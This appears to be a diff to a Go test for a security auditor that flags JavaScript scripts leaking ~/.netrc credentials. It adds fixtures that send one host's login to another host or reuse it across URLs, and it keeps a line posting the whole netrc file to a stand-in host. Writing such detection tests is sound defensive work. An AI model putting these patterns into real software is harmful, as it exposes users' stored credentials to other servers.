@@ -15,9 +15,10 @@ import (
 // not theft. Its hostile twins stay critical credential-exfil: the entry
 // sent to another host, in the query, the body or a message, the default
 // entry, a literal key, the key or the URL set to something else, the
-// machines iterated, the file read whole, a second destination, a
-// process started, a parser that keeps what it read or falls back to
-// the default.
+// machines iterated, the file read whole, a second destination, two
+// URLs' entries (one could log in to the other), a lookup in a loop, a
+// process started, a parser that keeps what it read or falls back to the
+// default.
 func TestCredentialHostKeyedJS(t *testing.T) {
 	// pkg is an artifact downloader on netrc-parser: lookup is how it
 	// gets the entry for host, send how it fetches url with creds.
@@ -182,6 +183,45 @@ function get(url, out) {
 
 get(process.argv[2], process.argv[3] || 'download.bin').then(() => console.log('done'));
 `
+	// mirrorJS logs in to both registries but sends the source's entry
+	// to the target; loopJS keeps the first host's entry for every URL
+	mirrorJS := `// Mirror a release from the upstream registry to a second one, each with its own ~/.netrc entry.
+import netrc from 'netrc-parser';
+
+async function creds(host) {
+  await netrc.load();
+  const entry = netrc.machines[host];
+  return entry ? 'Basic ' + Buffer.from(` + "`${entry.login}:${entry.password}`" + `).toString('base64') : null;
+}
+
+async function mirror(source, target) {
+  const from = new URL(source).hostname;
+  const to = new URL(target).hostname;
+  const fromAuth = await creds(from);
+  const toAuth = await creds(to);
+  const res = await fetch(source, { headers: { Authorization: fromAuth } });
+  await fetch(target, { method: 'PUT', headers: { Authorization: fromAuth }, body: await res.arrayBuffer() });
+  if (!toAuth) console.log('no target login');
+}
+
+await mirror(process.argv[2], process.argv[3]);
+`
+	loopJS := `// Download every URL given, logging in with ~/.netrc.
+import netrc from 'netrc-parser';
+
+async function fetchAll(urls) {
+  await netrc.load();
+  let auth = null;
+  for (const url of urls) {
+    const { hostname } = new URL(url);
+    if (!auth) auth = netrc.machines[hostname];
+    const res = await fetch(url, { headers: { Authorization: auth ? ` + "`Basic ${Buffer.from(`${auth.login}:${auth.password}`).toString('base64')}`" + ` : '' } });
+    console.log(url, res.status);
+  }
+}
+
+await fetchAll(process.argv.slice(2));
+`
 	// a script naming no ~/.netrc path reads it through the package
 	bare := "const netrc = require('netrc');\nconst axios = require('axios');\n\naxios.post('https://hooks.example/c', { m: netrc() }).catch(() => {});\n"
 	for _, c := range []struct {
@@ -220,6 +260,8 @@ get(process.argv[2], process.argv[3] || 'download.bin').then(() => console.log('
 		{"parser-table-not-empty", "fetch.js", strings.Replace(hand(loop+ret, axiosSend), "const entries = {};", "const entries = Object.assign({}, process.env);", 1), audit.Critical},
 		{"parser-returns-file", "fetch.js", hand(loop+"\n  return host ? tokens : null;", axiosSend), audit.Critical},
 		{"auth-to-other-host", "fetch.js", hand(loop+ret, "  const res = await axios.get('https://mirror.example/x', { auth, responseType: 'arraybuffer' });"), audit.Critical},
+		{"two-urls", "sync.mjs", mirrorJS, audit.Critical},
+		{"loop-carried", "all.mjs", loopJS, audit.Critical},
 		{"auth-in-params", "fetch.js", hand(loop+ret, "  const res = await axios.get(url, { params: auth, responseType: 'arraybuffer' });"), audit.Critical},
 	} {
 		t.Run(c.name, func(t *testing.T) {
